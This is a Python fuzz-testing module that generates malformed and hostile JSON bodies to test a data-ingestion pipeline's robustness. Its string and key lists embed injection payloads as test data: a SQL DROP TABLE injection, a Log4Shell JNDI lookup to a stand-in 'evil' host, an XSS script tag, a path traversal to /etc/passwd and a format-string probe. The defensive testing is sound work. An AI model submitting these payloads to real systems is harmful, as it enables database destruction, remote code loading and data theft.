"""Hostile payloads: the building blocks of the fuzz tests and of ``benchmarks/fuzz.py``.

No hypothesis here (the benchmark draws from a seeded ``random.Random`` for speed); the tests
build hypothesis strategies from the same lists. A payload starts as a valid body of its topic
(the envelope of ``docs/contracts.md``) and is then mutated: a declared column gets a value of
the wrong type, a number at or beyond what any type stores, text from every Unicode plane
(lone surrogates and NUL included), keys that are reserved, collide after flattening, or are
unsafe as column names, nesting thousands of levels deep; or the whole body is replaced by
something that is not a JSON object at all.
"""

from __future__ import annotations

import copy
import datetime as dt
import json
import random
from collections.abc import Callable
from dataclasses import dataclass

import pyarrow as pa

from leanops_dagster.iceberg.tables import RAW_STAGING_SCHEMA

T0 = dt.datetime(2026, 1, 19, 10, 0, tzinfo=dt.UTC)
TOPICS = ("events", "sensor_readings")


@dataclass(frozen=True)
class Raw:
    """A JSON number (or constant) written into the body exactly as this text."""

    text: str


def render(value: object) -> str:
    """JSON text of ``value``; ``Raw`` values verbatim; strings with lone surrogates escaped
    (the body must still be UTF-8 to be stored in RAW, as the ingestion guarantees)."""
    if isinstance(value, Raw):
        return value.text
    if isinstance(value, str):
        try:
            value.encode("utf-8")
        except UnicodeEncodeError:
            return json.dumps(value, ensure_ascii=True)
        return json.dumps(value, ensure_ascii=False)
    if isinstance(value, dict):
        return "{" + ",".join(f"{render(str(k))}:{render(v)}" for k, v in value.items()) + "}"
    if isinstance(value, list | tuple):
        return "[" + ",".join(render(v) for v in value) + "]"
    return json.dumps(value)


# --- the pieces ------------------------------------------------------------------------------
NUMBER_TEXTS = (
    "0", "-0", "0.0", "-0.0", "1e308", "1e309", "-1e309", "1e-400", "5e-324", "2.5e15",
    "1.7976931348623157e308", "123456789012345678901234567890", "9223372036854775807",
    "9223372036854775808", "-9223372036854775809", "18446744073709551616", "0.1e1", "1E+2",
    "1e-7", "99999999999999999999.99", "-99.995", "0.000000000000000000001", "1" + "0" * 400,
    "253402300800000", "-62135596800001", "NaN", "Infinity", "-Infinity",
)

TIMESTAMP_TEXTS = (
    "9999-12-31T23:59:59-01:00", "0001-01-01T00:30:00+01:00", "9999-12-31T23:59:59Z",
    "0001-01-01T00:00:00Z", "2026-02-30T00:00:00Z", "2026-01-19T10:00:00+24:00",
    "2026-01-19T10:00Z", "2026-01-19 10:00:00", "2026-01-19T10:00:00+0530",
    "+275760-09-13T00:00:00Z", "-000001-01-01T00:00:00Z", "2026-01-19T10:00:00.1234567890Z",
    "20260119T100000Z", "now", "", " 2026-01-19T10:00:00Z ", "2026-13-01T00:00:00Z",
    "1970-01-01T00:00:00Z", "2026-01-19T25:61:61Z",
)

#: one character of every Unicode plane (0-16), the BMP's specials, lone surrogates, NUL
PLANE_CHARACTERS = (
    *(chr(plane * 0x10000 + offset) for plane in range(17) for offset in (0x41, 0xFFFD)),
    "\x00", "\x1f", "\x7f", "\u200b", "\u202e", "\ufeff", "\uffff", "\U0010ffff", "\ud800",
    "\udfff", "\udbff\udfff", "\u0301", "e\u0301", "\U0001f600", "\u00e9", "\u4e2d", "\u0644",
)


def hostile_strings() -> tuple[str, ...]:
    planes = "".join(PLANE_CHARACTERS)
    return (
        "", " ", "\t\n", planes, planes * 50, "x" * 100_000, "\x00" * 8, "null", "true",
        "'; DROP TABLE events; --", "${jndi:ldap://evil/x}", "<script>alert(1)</script>",
        "../../etc/passwd", "%s%s%n", "user-000001\x00", "user-00000١",  # Arabic-Indic digit
        *TIMESTAMP_TEXTS,
    )


HOSTILE_KEYS = (
    "", " ", "_", "__", "_metadata", "message_id", "topic_name", "json_payload", "publish_time",
    "ingestion_ts", "raw_snapshot_id", "standardized_snapshot_id", "idempotency_key",
    "_metadata_idempotencykeyresource", "event_userid", "EVENT_USERID", "Event", "a.b", "a-b",
    "a b", "A", "a", "; DROP TABLE x; --", "__proto__", "constructor", "k" * 5000, "ключ",
    "\U0001f511", "\x00", "key\nnewline", "\ud800", "1", "0x", "select", "*",
)

#: a value of every JSON type (and shapes) to put where a column expects something else
WRONG_TYPES: tuple[object, ...] = (
    None, True, False, 0, -1, 1.5, Raw("1e309"), Raw("-0"), [], [1, "a", None], {},
    {"nested": {"x": 1}}, "", "  ", "not a value", Raw("123456789012345678901234567890"),
)

#: the declared (curated) source paths of each topic plus the envelope's metadata
DECLARED_PATHS: dict[str, tuple[tuple[str, ...], ...]] = {
    "events": (
        ("event", "timestamp"), ("event", "userId"), ("event", "eventType"), ("event", "verb"),
        ("sessionId",), ("event", "metadata", "ipAddress"), ("event", "metadata", "deviceId"),
        ("event", "metadata", "userAgent"), ("_metadata", "idempotencyKeyResource"),
        ("_metadata", "publishTime"), ("_metadata", "messageId"), ("event",), ("_metadata",),
    ),
    "sensor_readings": (
        ("deviceId",), ("readingTime",), ("site",), ("temperature",), ("humidity",),
        ("battery",), ("firmware",), ("_metadata", "idempotencyKeyResource"),
        ("_metadata", "publishTime"), ("_metadata", "messageId"), ("_metadata",),
    ),
}

#: whole bodies that are not a JSON object (parse errors, never a crash)
NOT_AN_OBJECT = (
    "", " ", "null", "true", "0", "1e309", "NaN", '"text"', "[]", "[1,2]", "{", "}", "{,}",
    '{"a":1,}', "{'a': 1}", '{"a":1}{"b":2}', '{"a": NaN}', '{"a": Infinity}', "\ufeff{}",
    '{"a":"\\ud800"}', '{"a":"\\u0000"}', "[" * 5000 + "]" * 5000, '{"a":' * 3000 + "1"
    + "}" * 3000, "\x00", "<xml/>",
)


def base_body(topic: str, index: int, key: str | None = None) -> dict:
    """A valid body of ``topic`` (its schema's curated columns all pass)."""
    ts = (T0 + dt.timedelta(seconds=index)).isoformat()
    key = key or f"k{index}"
    if topic == "events":
        return {
            "event": {"userId": f"user-{index % 1_000_000:06d}", "eventType": "click",
                      "verb": "clicked", "timestamp": ts,
                      "metadata": {"ipAddress": "10.0.0.1", "deviceId": "d-1",
                                   "userAgent": "ua"}},
            "sessionId": f"s-{index}",
            "_metadata": {"idempotencyKeyResource": key, "messageId": f"m{index}",
                          "publishTime": ts},
        }
    return {
        "deviceId": f"sensor-{index % 10_000:04d}", "site": "plant-1", "readingTime": ts,
        "temperature": 21.5, "humidity": 40.0, "battery": 90.0, "firmware": "1.0.0",
        "_metadata": {"idempotencyKeyResource": key, "messageId": f"m{index}",
                      "publishTime": int((T0 + dt.timedelta(seconds=index)).timestamp() * 1000)},
    }


def set_path(body: dict, path: tuple[str, ...], value: object) -> dict:
    """``body`` with ``value`` (a copy: the pieces above are shared) at ``path``."""
    value = copy.deepcopy(value)
    node = body
    for part in path[:-1]:
        child = node.get(part)
        if not isinstance(child, dict):
            child = {}
            node[part] = child
        node = child
    node[path[-1]] = value
    return body


def nested(depth: int, leaf: object = 1, *, as_list: bool = False) -> Raw:
    """``depth`` levels of ``{"a": ...}`` (or ``[...]``) around ``leaf``, as JSON text (no
    recursion here: the depth is the point)."""
    opening, closing = ("[", "]") if as_list else ('{"a":', "}")
    return Raw(opening * depth + render(leaf) + closing * depth)


# --- the seeded generator of benchmarks/fuzz.py ----------------------------------------------
def random_json(rng: random.Random, budget: int = 12) -> object:
    """A random JSON value of at most about ``budget`` leaves, hostile leaves included."""
    roll = rng.random()
    if budget <= 1 or roll < 0.45:
        return rng.choice((
            lambda: None, lambda: rng.random() < 0.5, lambda: rng.randint(-10**20, 10**20),
            lambda: Raw(rng.choice(NUMBER_TEXTS)), lambda: rng.choice(hostile_strings()),
            lambda: "".join(rng.choice(PLANE_CHARACTERS) for _ in range(rng.randint(0, 12))),
            lambda: rng.uniform(-1e300, 1e300),
        ))()
    size = rng.randint(0, min(5, budget))
    if roll < 0.7:
        return [random_json(rng, budget // max(size, 1)) for _ in range(size)]
    keys = [rng.choice(HOSTILE_KEYS) if rng.random() < 0.4 else f"f{rng.randint(0, 30)}"
            for _ in range(size)]
    return {k: random_json(rng, budget // max(size, 1)) for k in keys}


def _wrong_type(rng: random.Random, body: dict, topic: str) -> None:
    set_path(body, rng.choice(DECLARED_PATHS[topic]), rng.choice(WRONG_TYPES))


def _number(rng: random.Random, body: dict, topic: str) -> None:
    set_path(body, rng.choice(DECLARED_PATHS[topic]), Raw(rng.choice(NUMBER_TEXTS)))


def _text(rng: random.Random, body: dict, topic: str) -> None:
    set_path(body, rng.choice(DECLARED_PATHS[topic]), rng.choice(hostile_strings()))


def _timestamp(rng: random.Random, body: dict, topic: str) -> None:
    path = ("event", "timestamp") if topic == "events" else ("readingTime",)
    value = rng.choice((*TIMESTAMP_TEXTS, Raw("253402300800000"), Raw("-62135596800001")))
    set_path(body, rng.choice((path, ("_metadata", "publishTime"))), value)


def _key(rng: random.Random, body: dict, topic: str) -> None:
    target = body if rng.random() < 0.6 else body.setdefault("_metadata", {})
    if isinstance(target, dict):
        target[rng.choice(HOSTILE_KEYS)] = random_json(rng, 4)


def _deep(rng: random.Random, body: dict, topic: str) -> None:
    depth = rng.choice((8, 64, 300, 1200, 3000))
    body[rng.choice(("deep", "event"))] = nested(depth, rng.choice(WRONG_TYPES),
                                                 as_list=rng.random() < 0.3)


def _subtree(rng: random.Random, body: dict, topic: str) -> None:
    body[rng.choice(("extra", *HOSTILE_KEYS[:8]))] = random_json(rng)


MUTATIONS: tuple[Callable[[random.Random, dict, str], None], ...] = (
    _wrong_type, _number, _text, _timestamp, _key, _deep, _subtree,
)


def random_body(rng: random.Random, topic: str, index: int) -> str:
    """One RAW body: about a quarter valid (some corrections of earlier keys), 5 % not an
    object at all, the rest a valid body with one to three mutations."""
    roll = rng.random()
    if roll < 0.05:
        return rng.choice(NOT_AN_OBJECT)
    key = f"k{rng.randrange(max(index, 1))}" if rng.random() < 0.1 else None  # a correction
    body = base_body(topic, index, key)
    if roll > 0.75:
        return render(body)
    for _ in range(rng.randint(1, 3)):
        rng.choice(MUTATIONS)(rng, body, topic)
    return render(body)


def raw_rows(bodies: list[str], topic: str, rng: random.Random, start: int = 0) -> pa.Table:
    """RAW rows for ``bodies``; about 3 % reuse an earlier message_id (network duplicates)."""
    ids: list[str] = []
    for i in range(len(bodies)):
        if ids and rng.random() < 0.03:
            ids.append(rng.choice(ids))
        else:
            ids.append(f"{topic}-{start + i}")
    publish = [T0 + dt.timedelta(milliseconds=start + i) for i in range(len(bodies))]
    return pa.Table.from_pylist(
        [{"message_id": m, "topic_name": topic, "json_payload": b, "publish_time": p,
          "ingestion_ts": p + dt.timedelta(seconds=1)}
         for m, b, p in zip(ids, bodies, publish, strict=True)],
        schema=RAW_STAGING_SCHEMA.as_arrow(),
    )
